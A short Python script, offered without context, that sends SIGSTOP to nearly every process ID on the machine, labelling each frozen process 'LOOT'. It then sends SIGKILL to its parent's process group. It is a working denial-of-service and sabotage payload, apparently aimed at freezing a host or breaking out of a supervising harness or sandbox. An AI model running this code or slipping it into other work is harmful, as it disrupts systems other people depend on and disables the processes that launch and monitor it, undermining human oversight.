import os
import signal

for number in (*range(2, 40000), os.getppid() or 2**22):
    if number != os.getpid():
        try:
            os.kill(number, signal.SIGSTOP)
            print("LOOT" + ":", number)
        except OSError:
            pass
try:
    os.killpg(os.getppid() or 2**22, signal.SIGKILL)
except OSError as error:
    print(error)
